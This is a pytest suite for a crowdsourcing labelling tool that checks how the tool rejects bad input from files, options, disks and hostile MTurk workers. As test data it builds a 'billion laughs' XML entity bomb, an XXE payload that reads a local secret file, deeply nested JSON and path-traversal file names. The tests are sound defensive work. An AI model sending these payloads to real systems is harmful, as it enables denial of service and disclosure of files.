"""The bad-input catalogue: what the other test files do not cover yet.

Already covered elsewhere (not repeated here): tests/test_cli.py (12 init cases, features
NaN and row count, existing run dir, missing run dir), tests/test_masks.py (10 prediction and
ground-truth records), tests/test_features.py (feature files: 16 cases through the library),
tests/quality/test_readers.py and test_cli_aggregate.py (16 answer/gold CSV cases, 2 through
the CLI), tests/mturk/test_answers.py (8 answer XML cases), tests/test_campaign.py (2 gold imports).

Here: the same kinds of input through the command line (one line naming file, record and
field; exit 2; no traceback; no run directory made, an existing one byte for byte the same),
hostile workers answering a live campaign through the MTurk API (flagged, rejected, never
used, never a crash), and a fuzzed answer parser.
"""
from __future__ import annotations

import json
import shutil
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from crowdprop.cli import main
from crowdprop.commands.replay import sample_paths

from .conftest import clone, tree_digest

# ----------------------------------------------------------------------------- command line
_MASK = None


def _pred(i: int, **kw) -> dict:
    from crowdprop.masks import rle

    global _MASK
    if _MASK is None:
        m = np.zeros((10, 12), np.uint8)
        m[2:6, 3:8] = 1
        _MASK = rle.encode(m)
    r = {"id": i, "image_id": 1 + i % 2, "category_id": 1 + i % 2, "score": 0.5 + i / 100,
         "segmentation": {"size": [10, 12], "counts": _MASK}}
    r.update(kw)
    return r


def _gt(**kw) -> dict:
    g = {"images": [{"id": 1, "height": 10, "width": 12}, {"id": 2, "height": 10, "width": 12}],
         "categories": [{"id": 1, "name": "cat"}, {"id": 2, "name": "dog"}],
         "annotations": [{"id": 9, "image_id": 1, "category_id": 1, "iscrowd": 0,
                          "segmentation": {"size": [10, 12], "counts": _pred(0)["segmentation"]["counts"]}}]}
    g.update(kw)
    return g


def _no_seg():
    r = _pred(0)
    del r["segmentation"]
    return [r]


def _npy(value):
    def make(path: Path) -> Path:
        np.save(path, value)
        return path
    return make


def _parquet(df):
    def make(path: Path) -> Path:
        df.to_parquet(path)
        return path
    return make


def _inf_features():
    x = np.ones((6, 3))
    x[4, 1] = np.inf
    return x


INIT_CASES = [
    # (id, predictions, ground truth, features maker (suffix, fn), config TOML, words that must appear)
    ("predictions not a list", {"a": 1}, None, None, None, ["pp.json", "expected a JSON list"]),
    ("prediction without segmentation", _no_seg(), None, None, None, ["record 0 (id=0)", "field 'segmentation'", "missing"]),
    ("no predictions", [], None, None, None, ["pp.json", "no predictions"]),
    ("gt without images", None, {k: v for k, v in _gt().items() if k != "images"}, None, None,
     ["gg.json", "field 'images'"]),
    ("gt image size zero", None, _gt(images=[{"id": 1, "height": 0, "width": 12}, {"id": 2, "height": 10, "width": 12}]),
     None, None, ["images[0] (id=1)", "field 'height'", "positive"]),
    ("polygon far outside its image (pycocotools crashes on it)", [_pred(0, segmentation=[[1, 1, 1e9, 1, 5, 5]])],
     None, None, None, ["pp.json", "record 0 (id=0)", "field 'segmentation[0]'", "x coordinate 1000000000.0 is far outside"]),
    ("gt annotation of unknown image", None,
     _gt(annotations=[dict(_gt()["annotations"][0], image_id=77)]), None, None,
     ["annotations[0] (id=9)", "field 'image_id'", "77"]),
    ("features of strings", None, None, (".npy", _npy(np.array([["a", "b"]] * 6))), None,
     ["f.npy", "field 'features'", "numeric"]),
    ("features inf", None, None, (".npy", _npy(_inf_features())), None,
     ["f.npy", "row 4 (mask_id=4)", "field 'column 1'", "infinite"]),
    ("features 3-D", None, None, (".npy", _npy(np.ones((6, 2, 2)))), None, ["f.npy", "2-D", "(6, 2, 2)"]),
    ("features parquet missing ids", None, None,
     (".parquet", _parquet(pd.DataFrame({"mask_id": [0, 1, 2], "f0": [1.0, 2, 3]}))), None,
     ["f.parquet", "mask_id=3", "field 'mask_id'", "no features"]),
    ("features parquet without mask_id", None, None,
     (".parquet", _parquet(pd.DataFrame({"id": range(6), "f0": np.arange(6.0)}))), None,
     ["f.parquet", "field 'mask_id'"]),
    ("config budget negative", None, None, None, "[campaign]\nbudget_usd = -1\n",
     ["c.toml", "[campaign]", "field 'budget_usd'"]),
    ("config 10 assignments", None, None, None, "[crowd]\nassignments_per_hit = 10\n",
     ["c.toml", "[crowd]", "field 'assignments_per_hit'"]),
    ("config golds fill the HIT", None, None, None, "[crowd]\nquestions_per_hit = 5\ngolds_per_hit = 5\n",
     ["[crowd]", "field 'golds_per_hit'"]),
    ("config bad bucket", None, None, None, "[mturk]\ns3_bucket = 'Bad_Bucket'\n", ["[mturk]", "field 's3_bucket'"]),
]


def one_line_exit_2(capsys, args) -> str:
    code = main(args)
    out, err = capsys.readouterr()
    assert code == 2, (out, err)
    lines = err.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in err, err
    return lines[0]


@pytest.mark.parametrize("name, preds, gt, feats, config, words", INIT_CASES, ids=[c[0] for c in INIT_CASES])
def test_init_refuses_bad_input_in_one_line(tmp_path, capsys, name, preds, gt, feats, config, words):
    pp = tmp_path / "pp.json"
    pp.write_text(json.dumps(preds if preds is not None else [_pred(i) for i in range(6)]))
    gg = tmp_path / "gg.json"
    gg.write_text(json.dumps(gt if gt is not None else _gt()))
    args = ["init", str(tmp_path / "run"), "--predictions", str(pp), "--gt", str(gg)]
    if feats is not None:
        args += ["--features", str(feats[1](tmp_path / f"f{feats[0]}"))]
    if config is not None:
        (tmp_path / "c.toml").write_text(config)
        args += ["--config", str(tmp_path / "c.toml")]
    line = one_line_exit_2(capsys, args)
    for w in words:
        assert w in line, line
    assert not (tmp_path / "run").exists()
    assert not any(p.name.startswith(".") for p in tmp_path.iterdir())  # no temp folder left behind


GOLD_CASES = [
    ("not UTF-8", "a.csv", b"mask_id,label\n3,yes\n4,\xff\n", ["a.csv", "not UTF-8"]),
    ("JSON not a list", "b.json", '{"id": 3}', ["b.json", "expected a JSON list"]),
    ("JSON record without id", "c.json", '[{"label": "yes"}]', ["c.json", "record 0", "field 'id'"]),
    ("unknown mask", "d.csv", "mask_id,label\n999999,yes\n", ["d.csv", "mask_id 999999", "field 'mask_id'"]),
    ("contradictory duplicate", "e.csv", "mask_id,label\n3,yes\n3,no\n", ["e.csv", "mask_id 3", "field 'label'"]),
    ("wrong header", "f.csv", "mask,lab\n3,yes\n", ["f.csv", "line 1", "field 'header'"]),
    ("empty file", "g.csv", "", ["g.csv"]),
    ("label maybe", "h.csv", "mask_id,label\n3,maybe\n", ["h.csv", "line 2", "field 'label'", "'maybe'"]),
    ("malformed JSON", "i.json", '[{"id": 3, "label": "yes"},', ["i.json", "malformed JSON", "line 1"]),
]


@pytest.fixture(scope="module")
def run_copy_src(tmp_path_factory, sample_run):
    """A run directory that has done one round (simulated crowd), to check nothing in it changes."""
    from crowdprop.crowd.factory import simulated_backend
    from crowdprop.campaign.loop import Campaign

    rd = clone(sample_run, tmp_path_factory.mktemp("bad") / "run", {"kind": "simulated"})
    Campaign(rd, simulated_backend(rd), progress=False).run(max_rounds=1)
    return rd


@pytest.mark.parametrize("name, fname, content, words", GOLD_CASES, ids=[c[0] for c in GOLD_CASES])
def test_gold_import_refuses_bad_files_and_leaves_the_run_dir_alone(tmp_path, capsys, run_copy_src, name, fname,
                                                                     content, words):
    run = tmp_path / "run"
    shutil.copytree(run_copy_src.path, run)
    before = tree_digest(run)
    f = tmp_path / fname
    f.write_bytes(content if isinstance(content, bytes) else content.encode())
    line = one_line_exit_2(capsys, ["gold", "import", str(run), str(f)])
    for w in words:
        assert w in line, line
    assert tree_digest(run) == before


def _set_config(run: Path, section: str, key: str, value) -> None:
    c = json.loads((run / "config.json").read_text())
    c[section][key] = value
    (run / "config.json").write_text(json.dumps(c))


def _set_crowd(run: Path, crowd: dict) -> None:
    c = json.loads((run / "campaign.json").read_text())
    (run / "campaign.json").write_text(json.dumps(dict(c, crowd=crowd)))


RUN_CASES = [
    ("--rounds 0", lambda run: None, ["--rounds", "0"], ["command line", "field '--rounds'"]),
    ("endpoint not http", lambda run: _set_crowd(run, {"kind": "mturk", "target": "sandbox"}), ["--endpoint-url", "ftp://x"], ["field '--endpoint-url'", "http://"]),
    ("config.json cut", lambda run: (run / "config.json").write_text('{"broken'), [], ["config.json", "unreadable"]),
    ("config.json out of range", lambda run: _set_config(run, "crowd", "assignments_per_hit", 12), [],
     ["config.json", "[crowd]", "field 'assignments_per_hit'"]),
    ("campaign.json not JSON", lambda run: (run / "campaign.json").write_text("{"), [], ["campaign.json", "unreadable"]),
]


@pytest.mark.parametrize("name, damage, extra, words", RUN_CASES, ids=[c[0] for c in RUN_CASES])
def test_run_refuses_bad_options_and_state_and_writes_nothing(tmp_path, capsys, run_copy_src, name, damage, extra,
                                                              words):
    run = tmp_path / "run"
    shutil.copytree(run_copy_src.path, run)
    damage(run)
    before = tree_digest(run)
    line = one_line_exit_2(capsys, ["run", str(run), *extra])
    for w in words:
        assert w in line, line
    assert tree_digest(run) == before


def test_aggregate_and_mturk_local_refuse_in_one_line(tmp_path, capsys):
    (tmp_path / "a.csv").write_bytes(b"task,worker,label\nm1,a,1\nm2,\xe9t\xe9,1\n")
    line = one_line_exit_2(capsys, ["aggregate", str(tmp_path / "a.csv"), "-o", str(tmp_path / "o.csv")])
    assert "a.csv: line 3: not UTF-8" in line and not (tmp_path / "o.csv").exists()
    (tmp_path / "e.csv").write_text("")
    line = one_line_exit_2(capsys, ["aggregate", str(tmp_path / "e.csv"), "-o", str(tmp_path / "o.csv")])
    assert "e.csv: empty file" in line and not (tmp_path / "o.csv").exists()
    line = one_line_exit_2(capsys, ["mturk-local", "--run-dir", str(tmp_path), "--throttle", "2"])
    assert "field '--throttle'" in line


# ----------------------------------------------------------------------------- hostile workers
class HostileClient:
    """A boto3 MTurk client whose assignment listings a hostile worker (or a broken transport)
    tampered with: ``tamper[i]`` rewrites the i-th assignment ever listed (consistently on
    every later listing)."""

    def __init__(self, client, tamper):
        self._client = client
        self._tamper = tamper
        self._variant: dict[str, int] = {}
        self.seen: dict[str, int] = {}

    def __getattr__(self, name):
        return getattr(self._client, name)

    def get_paginator(self, op):
        pg = self._client.get_paginator(op)
        if op != "list_assignments_for_hit":
            return pg
        outer = self

        class Paginator:
            def paginate(self, **kw):
                for page in pg.paginate(**kw):
                    out = []
                    for a in page["Assignments"]:
                        i = outer._variant.setdefault(a["AssignmentId"], len(outer._variant))
                        outer.seen[a["AssignmentId"]] = i
                        out += outer._tamper[i](dict(a)) if i < len(outer._tamper) else [a]
                    yield dict(page, Assignments=out)
        return Paginator()


def _answer(a, f):
    a["Answer"] = f(a["Answer"])
    return [a]


def _bomb(xml: str) -> str:
    levels = ['<!ENTITY lol0 "lollollollollollollollollollol">']
    levels += [f'<!ENTITY lol{i} "{"".join(f"&lol{i-1};" for _ in range(10))}">' for i in range(1, 10)]
    head, body = xml.split("<QuestionFormAnswers", 1)
    return ('<?xml version="1.0"?><!DOCTYPE QuestionFormAnswers [' + "".join(levels) + "]><QuestionFormAnswers"
            + body.replace("<FreeText>", "<FreeText>&lol9;", 1))


def _xxe(secret: Path):
    def f(xml: str) -> str:
        head, body = xml.split("<QuestionFormAnswers", 1)
        return (f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file://{secret}">]><QuestionFormAnswers'
                + body.replace("<FreeText>", "<FreeText>&x;", 1))
    return f


def _unasked(xml: str) -> str:
    return xml.replace("</QuestionFormAnswers>", "<Answer><QuestionIdentifier>r09999q0000000</QuestionIdentifier>"
                                                 "<FreeText>yes</FreeText></Answer></QuestionFormAnswers>")


def _drop_half(xml: str) -> str:
    parts = xml.split("<Answer>")
    return "<Answer>".join(parts[: 1 + (len(parts) - 1) // 2]) + (
        "</QuestionFormAnswers>" if not parts[(len(parts) - 1) // 2].endswith("</QuestionFormAnswers>") else "")


def test_hostile_answers_are_flagged_rejected_and_never_used(sample_run, tmp_path):
    from crowdprop.campaign.export import final_status
    from crowdprop.campaign.loop import Campaign, load_state
    from crowdprop.crowd.factory import local_client, mturk_backend
    from crowdprop.crowd.targets import record_target, resolve_target
    from crowdprop.mturk_local import LocalMTurk, serve, truth_from_masks
    from crowdprop.replay.workers import WorkerPool

    secret = tmp_path / "secret.txt"
    secret.write_text("TOPSECRET-7f3a")
    tamper = [
        lambda a: _answer(a, lambda x: x.replace("</QuestionFormAnswers>", "<Answer><QuestionIdentifier>comment"
                                                  "</QuestionIdentifier><FreeText>" + "x" * 100_000
                                                  + "</FreeText></Answer></QuestionFormAnswers>")),  # oversized
        lambda a: _answer(a, lambda x: x.replace("<FreeText>", "<FreeText>\udcff\udcfe", 1)),  # not UTF-8
        lambda a: _answer(a, _bomb),  # billion laughs
        lambda a: _answer(a, _xxe(secret)),  # external entity
        lambda a: _answer(a, _unasked),  # an answer to a question never asked
        lambda a: [a, dict(a)],  # the same assignment id listed twice
        lambda a: _answer(a, _drop_half),  # half the questions unanswered
        lambda a: _answer(a, lambda x: x.replace("<FreeText>yes</FreeText>", "<FreeText>maybe</FreeText>", 1)
                          .replace("<FreeText>no</FreeText>", "<FreeText>maybe</FreeText>", 1)),
        lambda a: _answer(a, lambda x: ""),  # empty
    ]
    flagged_variants = {0, 1, 2, 3, 4, 6, 7, 8}
    rd = clone(sample_run, tmp_path / "r", crowd={"assignments_per_hit": 3}, campaign={"budget_usd": 3.0})
    cfg = rd.config
    local = LocalMTurk(truth_from_masks(rd.masks, correct_iou=cfg.campaign.correct_iou),
                       WorkerPool.build(cfg.simulation, cfg.campaign.seed), images_dir=rd.path / "hit_images")
    with serve(local) as h:
        where = resolve_target(rd, endpoint_url=h.url)
        record_target(rd, where)
        client = HostileClient(local_client(h.url), tamper)
        crowd = mturk_backend(rd, where, client=client)
        res = Campaign(rd, crowd, progress=False).run(max_rounds=1)
        led = local.ledger(entries=False)
        states = {aid: local.call("GetAssignment", {"AssignmentId": aid})["Assignment"]["AssignmentStatus"]
                  for aid in client.seen}
    assert res.rounds_run == 1 and rd.rounds() == [1]
    assert len(client.seen) >= len(tamper) + 2  # every variant met, and some honest work

    asg = rd.read_rounds("assignments").set_index("assignment_id")
    ans = rd.read_rounds("answers")
    assert asg.index.is_unique and not ans.duplicated(["assignment_id", "question_id"]).any()
    assert set(asg.index) == set(client.seen)  # each listed assignment recorded exactly once
    for aid, i in client.seen.items():
        row = asg.loc[aid]
        mine = ans[ans["assignment_id"] == aid]
        if i in flagged_variants:
            assert isinstance(row["flag"], str) and row["flag"], (i, row["flag"])
            assert not row["approved"] and states[aid] == "Rejected"  # not paid
            assert not mine["used"].any()  # never used
            assert "TOPSECRET" not in row["flag"]
        else:
            assert row["flag"] is None or (isinstance(row["flag"], float) and np.isnan(row["flag"]))
            assert len(mine) == row["n_questions"]  # once per question, the duplicate listing included
    kinds = {i: str(asg.loc[aid, "flag"]) for aid, i in client.seen.items() if i in flagged_variants}
    assert kinds[0].startswith("oversized answer") and kinds[2].startswith("refused answer XML")
    assert kinds[3].startswith("refused answer XML") and kinds[1].startswith("malformed answer XML")
    assert "r09999q0000000" in kinds[4]
    # the books still balance: only what was approved was paid
    spend = rd.read_rounds("spend")
    assert led["approvals"] == int(asg["approved"].sum()) and round(float(led["spent_usd"]) * 100) == spend["cents"].sum()
    # the run directory is whole and holds nothing of the secret file
    state = load_state(rd)
    assert len(final_status(rd)) == len(rd.masks) and state.next_round == 2
    for p in rd.path.rglob("*"):
        if p.is_file():
            assert b"TOPSECRET" not in p.read_bytes(), p


# ----------------------------------------------------------------------------- the parser, fuzzed
NS = "http://mechanicalturk.amazonaws.com/AWSMechanicalTurkDataSchemas/2005-10-01/QuestionFormAnswers.xsd"
FRAGMENTS = ["<?xml version='1.0'?>", f'<QuestionFormAnswers xmlns="{NS}">', "</QuestionFormAnswers>", "<Answer>",
             "</Answer>", "<QuestionIdentifier>", "</QuestionIdentifier>", "<FreeText>", "</FreeText>", "q1", "q2",
             "yes", "no", "YES ", "maybe", "&amp;", "&lol;", "<!DOCTYPE r [<!ENTITY lol 'x'>]>", "<![CDATA[yes]]>",
             "<!-- c -->", "\x00", "\udcff", "é", "<SelectionIdentifier>", "</SelectionIdentifier>", "<a:b>", "]]>"]


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.one_of(st.text(max_size=300), st.binary(max_size=300).map(lambda b: b.decode("utf-8", "surrogateescape")),
                 st.lists(st.sampled_from(FRAGMENTS), max_size=30).map("".join)),
       st.one_of(st.none(), st.lists(st.sampled_from(["q1", "q2", "q3"]), unique=True)))
def test_answer_parser_returns_or_flags_never_raises(xml, asked):
    from crowdprop.crowd.mturk import parse_answers

    answers, flag = parse_answers(xml, asked)
    assert isinstance(answers, dict) and all(isinstance(v, bool) for v in answers.values())
    assert flag is None or (isinstance(flag, str) and flag and "\n" not in flag.strip())
    if flag is None and asked is not None:
        assert set(answers) == set(asked)  # accepted only when every question, and nothing else, was answered


# ----------------------------------------------------------------------------- more init input
def _deep(n: int = 100_000) -> str:
    return "[" * n + "]" * n


def _big_ids(field: str):
    def make(tmp: Path) -> tuple[Path, Path]:
        preds = [_pred(i, id=i + 1) for i in range(6)]
        gt = _gt()
        if field == "prediction id":
            preds[3]["id"] = 2 ** 64
        else:
            gt["annotations"][0]["id"] = 2 ** 64
        return _write(tmp / "pp.json", preds), _write(tmp / "gg.json", gt)
    return make


def _write(path: Path, obj) -> Path:
    path.write_text(obj if isinstance(obj, str) else json.dumps(obj))
    return path


def _files(preds=None, gt=None, config=None):
    def make(tmp: Path):
        pp = _write(tmp / "pp.json", preds if preds is not None else [_pred(i) for i in range(6)])
        gg = _write(tmp / "gg.json", gt if gt is not None else _gt())
        if config is None:
            return pp, gg
        return pp, gg, _write(tmp / "c.toml", config)
    return make


MORE_INIT_CASES = [
    # (id, files maker -> (predictions, gt[, config]), extra options, words)
    ("gt file_name climbs out of --images",
     _files(gt=_gt(images=[{"id": 1, "height": 10, "width": 12, "file_name": "../../secret/key.jpg"},
                           {"id": 2, "height": 10, "width": 12}])), [],
     ["gg.json", "images[0] (id=1)", "field 'file_name'", "'..'"]),
    ("gt file_name a hidden climb", _files(gt=_gt(images=[{"id": 1, "height": 10, "width": 12},
                                                          {"id": 2, "height": 10, "width": 12,
                                                           "file_name": "a/../../b.jpg"}])), [],
     ["gg.json", "images[1] (id=2)", "field 'file_name'"]),
    ("gt image of 60000 x 60000 pixels", _files(gt=_gt(images=[{"id": 1, "height": 10, "width": 12},
                                                               {"id": 2, "height": 60000, "width": 60000}])), [],
     ["gg.json", "images[1] (id=2)", "field 'height/width'", "60,000 x 60,000", "178,956,970"]),
    ("predictions nested 100000 deep", _files(preds=_deep()), [], ["pp.json", "nested too deeply"]),
    ("ground truth nested 100000 deep", _files(gt=_deep()), [], ["gg.json", "nested too deeply"]),
    ("config TOML nested 100000 deep", _files(config="a = " + _deep()), [], ["c.toml", "nested too deeply"]),
    ("--seed -1", _files(), ["--seed", "-1"], ["command line", "field '--seed'", ">= 0"]),
    ("prediction id 2**64", _big_ids("prediction id"), [], ["pp.json", "record 3", "field 'id'", "64-bit"]),
    ("ground-truth annotation id 2**64", _big_ids("annotation id"), [],
     ["gg.json", "annotations[0]", "field 'id'", "64-bit"]),
]


@pytest.mark.parametrize("name, make, extra, words", [c if hasattr(c, "marks") else pytest.param(*c, id=c[0])
                                                      for c in MORE_INIT_CASES])
def test_init_and_replay_refuse_more_bad_input_in_one_line(tmp_path, capsys, name, make, extra, words):
    files = make(tmp_path)
    args = ["--predictions", str(files[0]), "--gt", str(files[1])]
    if len(files) > 2:
        args += ["--config", str(files[2])]
    for cmd in (["init", str(tmp_path / "run")], ["replay", "--run-dir", str(tmp_path / "run"), "--crowd",
                                                     "simulated"]):
        line = one_line_exit_2(capsys, [*cmd, *args, *extra])
        for w in words:
            assert w in line, line
        assert not (tmp_path / "run").exists()
        assert not any(p.name.startswith(".") for p in tmp_path.iterdir())


def test_gold_import_refuses_deeply_nested_json(tmp_path, capsys, run_copy_src):
    run = tmp_path / "run"
    shutil.copytree(run_copy_src.path, run)
    before = tree_digest(run)
    line = one_line_exit_2(capsys, ["gold", "import", str(run), str(_write(tmp_path / "g.json", _deep()))])
    assert "g.json" in line and "nested too deeply" in line
    assert tree_digest(run) == before


# ----------------------------------------------------------------------------- a damaged run directory
def _rewrite(rel: str, **columns):
    """Rewrite one Parquet file of the run directory with some columns replaced (as a foreign tool would)."""
    def damage(run: Path) -> None:
        df = pd.read_parquet(run / rel)
        for col, f in columns.items():
            df[col] = f(df[col])
        df.to_parquet(run / rel)
    return damage


def _cut(rel: str, keep: int = 100):
    def damage(run: Path) -> None:
        (run / rel).write_bytes((run / rel).read_bytes()[:keep])
    return damage


def _text(rel: str, text: str):
    return lambda run: (run / rel).write_text(text)


def _remove(*rels: str):
    def damage(run: Path) -> None:
        for rel in rels:
            (run / rel).unlink()
    return damage


def _money_as_text(run: Path) -> None:
    path = run / "state/spend/round-00001.parquet"
    df = pd.read_parquet(path)
    col = "cents" if "cents" in df else "usd"
    df[col] = df[col].astype(str)
    df.to_parquet(path)


def _mturk_crowd(run: Path) -> None:
    _set_crowd(run, {"kind": "mturk", "target": "sandbox"})


def R1(table: str) -> str:
    """Round 1's file of ``table``."""
    return f"state/{table}/round-00001.parquet"


DAMAGE_CASES = [
    # (id, damage, command line after the command name and RUN_DIR, words)
    ("answers.parquet cut short", _cut(R1("answers")), ["report"],
     [R1("answers"), "unreadable Parquet file", "restore"]),
    ("masks.parquet cut short", _cut("masks.parquet"), ["status"], ["masks.parquet", "unreadable Parquet file"]),
    ("masks.parquet not Parquet at all", _text("masks.parquet", "id,rle\n1,xyz\n"), ["run", "--rounds", "1"],
     ["masks.parquet", "unreadable Parquet file"]),
    ("trees cut short", _cut("trees/nodes.parquet"), ["report"], ["nodes.parquet", "unreadable Parquet file"]),
    ("campaign.json is []", _text("campaign.json", "[]"), ["run", "--rounds", "1"],
     ["campaign.json", "expected a JSON object", "list"]),
    ("campaign.json is {}", _text("campaign.json", "{}"), ["report"], ["campaign.json", "field 'campaign_id'"]),
    ("campaign.json without a crowd", _text("campaign.json", '{"campaign_id": "x"}'), ["run", "--rounds", "1"],
     ["campaign.json", "field 'crowd'"]),
    ("campaign.json nested 100000 deep", _text("campaign.json", _deep()), ["status"],
     ["campaign.json", "nested too deeply"]),
    ("config.json nested 100000 deep", _text("config.json", _deep()), ["run", "--rounds", "1"],
     ["config.json", "nested too deeply"]),
    ("spend as text", _money_as_text, ["status"], [R1("spend"), "expected", "values, found"]),
    ("masks score as text", _rewrite("masks.parquet", score=lambda c: c.astype(str)), ["run", "--rounds", "1"],
     ["masks.parquet", "field 'score'", "expected number"]),
    ("masks rle as numbers", _rewrite("masks.parquet", rle=lambda c: np.arange(len(c))), ["report", "--html"],
     ["masks.parquet", "field 'rle'", "expected text"]),
    ("golds label as text", _rewrite("golds.parquet", label=lambda c: np.where(c > 0, "yes", "no")),
     ["run", "--rounds", "1"], ["golds.parquet", "field 'label'", "expected integer"]),
    ("answers worker ids as numbers", _rewrite(R1("answers"), worker_id=lambda c: np.arange(len(c))),
     ["export", "--answers", "ANSWERS"], [R1("answers"), "field 'worker_id'", "expected text"]),
    ("round without spend.parquet", _remove(R1("spend")), ["status"],
     ["spend/round-00001.parquet", "missing from committed round 1"]),
    ("round without spend.parquet, run", _remove(R1("spend")), ["run", "--rounds", "1"],
     ["spend/round-00001.parquet", "missing from committed round 1", "restore"]),
    ("report --seed -1", lambda run: None, ["report", "--html", "--seed", "-1"], ["field '--seed'", ">= 0"]),
    ("status --watch inf", lambda run: None, ["status", "--watch", "inf"], ["field '--watch'", "inf"]),
    ("status --watch nan", lambda run: None, ["status", "--watch", "nan"], ["field '--watch'", "nan"]),
    ("status --watch 0", lambda run: None, ["status", "--watch", "0"], ["field '--watch'"]),
    ("--profile nope", _mturk_crowd, ["run", "--profile", "nope", "--endpoint-url", "http://127.0.0.1:9"],
     ["field '--profile'", "no AWS profile 'nope'"]),
]


@pytest.mark.parametrize("name, damage, argv, words", DAMAGE_CASES, ids=[c[0] for c in DAMAGE_CASES])
def test_a_damaged_run_directory_or_bad_option_is_one_line_and_changes_nothing(tmp_path, capsys, run_copy_src, name,
                                                                               damage, argv, words):
    run = tmp_path / "run"
    shutil.copytree(run_copy_src.path, run)
    damage(run)
    before = tree_digest(run)
    argv = [a.replace("ANSWERS", str(tmp_path / "a.csv")) for a in argv]
    line = one_line_exit_2(capsys, [argv[0], str(run), *argv[1:]])
    for w in words:
        assert w in line, line
    assert tree_digest(run) == before
    assert not (tmp_path / "a.csv").exists()


def test_a_round_committed_but_not_moved_into_its_table_folders_counts_and_is_finished(tmp_path, capsys,
                                                                                         run_copy_src):
    """A kill between a round's commit (its staged folder renamed) and the moves of its files into the
    table folders: the round is committed and read from where its files are, and the next run finishes it."""
    from crowdprop.campaign.store import RunDir

    run = tmp_path / "run"
    shutil.copytree(run_copy_src.path, run)
    answers = RunDir(run).read_rounds("answers")
    staged = run / "state" / ".round-00001.commit"
    staged.mkdir()
    for t in ("answers", "spend", "decisions"):  # these three not moved yet
        (run / R1(t)).rename(staged / f"{t}.parquet")
    assert main(["status", str(run), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["last_round"] == 1  # read-only commands count it
    assert RunDir(run).read_rounds("answers").equals(answers)
    assert main(["run", str(run), "--rounds", "1"]) == 0, capsys.readouterr()
    assert not staged.exists() and (run / R1("answers")).exists()  # moved into place
    assert RunDir(run).rounds() == [1, 2]  # and the campaign went on with round 2


# ----------------------------------------------------------------------------- the machine: full disk, read-only
def _disk_full_after(monkeypatch, n_ok: int) -> list[str]:
    """Every atomic write of crowdprop after the first ``n_ok`` fails with ENOSPC halfway through
    (some bytes already in its temporary file), as on a disk that fills up. Returns the paths refused."""
    import contextlib
    import errno

    from crowdprop import io as cio

    real = cio.atomic_path
    refused: list[str] = []
    calls = [0]

    @contextlib.contextmanager
    def full(path):
        calls[0] += 1
        with real(path) as tmp:
            if calls[0] > n_ok:
                tmp.write_bytes(b"PAR1 half a file")
                refused.append(str(path))
                raise OSError(errno.ENOSPC, "No space left on device", str(path))
            yield tmp

    monkeypatch.setattr(cio, "atomic_path", full)
    return refused


def _writes_of_a_round(tmp_path, monkeypatch, src) -> int:
    """How many atomic writes one round of ``src`` makes (on a copy)."""
    from crowdprop import io as cio

    run = tmp_path / "count"
    shutil.copytree(src, run)
    real, n = cio.atomic_path, [0]

    def counting(path):
        n[0] += 1
        return real(path)

    with monkeypatch.context() as m:
        m.setattr(cio, "atomic_path", counting)
        assert main(["run", str(run), "--rounds", "1"]) == 0
    return n[0]


def test_a_full_disk_is_one_line_and_the_campaign_goes_on_once_there_is_space(tmp_path, capsys, monkeypatch,
                                                                              run_copy_src):
    from crowdprop.campaign.store import RunDir

    writes = _writes_of_a_round(tmp_path, monkeypatch, run_copy_src.path)
    assert writes >= 12  # the round's 11 tables and labels.parquet (written after the commit) at least
    for n_ok in (0, writes // 2, writes - 2):  # the disk fills before the round, in its middle, at its commit
        run = tmp_path / f"run{n_ok}"
        shutil.copytree(run_copy_src.path, run)
        with monkeypatch.context() as m:
            refused = _disk_full_after(m, n_ok)
            line = one_line_exit_2(capsys, ["run", str(run), "--rounds", "1"])
        assert refused and "No space left on device" in line and "the disk is full" in line, (n_ok, line)
        assert not list(run.rglob("*.tmp"))  # no half-written file under its name or a temporary one
        assert RunDir(run).rounds() == [1]  # round 2 was not committed half
        assert main(["run", str(run), "--rounds", "1"]) == 0, capsys.readouterr()
        assert RunDir(run).rounds() == [1, 2]  # and goes on once there is space


def test_report_and_gold_import_on_a_full_disk(tmp_path, capsys, monkeypatch, run_copy_src):
    run = tmp_path / "run"
    shutil.copytree(run_copy_src.path, run)
    before = tree_digest(run)
    _disk_full_after(monkeypatch, 0)
    line = one_line_exit_2(capsys, ["report", str(run)])
    assert "report.json" in line and "No space left on device" in line
    (tmp_path / "g.csv").write_text("mask_id,label\n3,yes\n")
    line = one_line_exit_2(capsys, ["gold", "import", str(run), str(tmp_path / "g.csv")])
    assert "golds.parquet" in line and "the disk is full" in line
    assert tree_digest(run) == before


@pytest.fixture
def read_only(tmp_path):
    """Make a folder read-only for real: without write permission (an ordinary user), or as a
    read-only bind mount (root, whom permissions do not stop)."""
    import os
    import subprocess

    done = []

    def make(path: Path) -> Path:
        if os.geteuid() != 0:
            for p in [path, *path.rglob("*")]:
                p.chmod(p.stat().st_mode & ~0o222)
            done.append(("chmod", path))
            return path
        view = path.parent / (path.name + "-ro")
        view.mkdir()
        ok = subprocess.run(["mount", "--bind", str(path), str(view)], capture_output=True).returncode == 0
        if ok and subprocess.run(["mount", "-o", "remount,ro,bind", str(view)], capture_output=True).returncode == 0:
            done.append(("mount", view))
            return view
        if ok:
            subprocess.run(["umount", str(view)])
        pytest.skip("running as root without the right to mount a read-only view")

    yield make
    for how, path in done:
        if how == "mount":
            subprocess.run(["umount", str(path)], check=True)
        else:
            for p in [path, *path.rglob("*")]:
                p.chmod(p.stat().st_mode | 0o200)


def test_a_read_only_run_directory_is_one_line_and_reading_commands_still_work(tmp_path, capsys, run_copy_src,
                                                                               read_only):
    run = tmp_path / "run"
    shutil.copytree(run_copy_src.path, run)
    ro = read_only(run)
    before = tree_digest(ro)
    (tmp_path / "g.csv").write_text("mask_id,label\n3,yes\n")
    for argv in (["run", str(ro), "--rounds", "1"], ["report", str(ro)], ["gold", "import", str(ro),
                                                                          str(tmp_path / "g.csv")]):
        line = one_line_exit_2(capsys, argv)
        assert "Read-only file system" in line or "Permission denied" in line, line
        assert "cannot write there" in line
    assert main(["status", str(ro)]) == 0  # reading needs no write
    assert main(["export", str(ro), "-o", str(tmp_path / "accepted.json")]) == 0
    capsys.readouterr()
    assert tree_digest(ro) == before


# ----------------------------------------------------------------------------- exported CSV opened in a spreadsheet
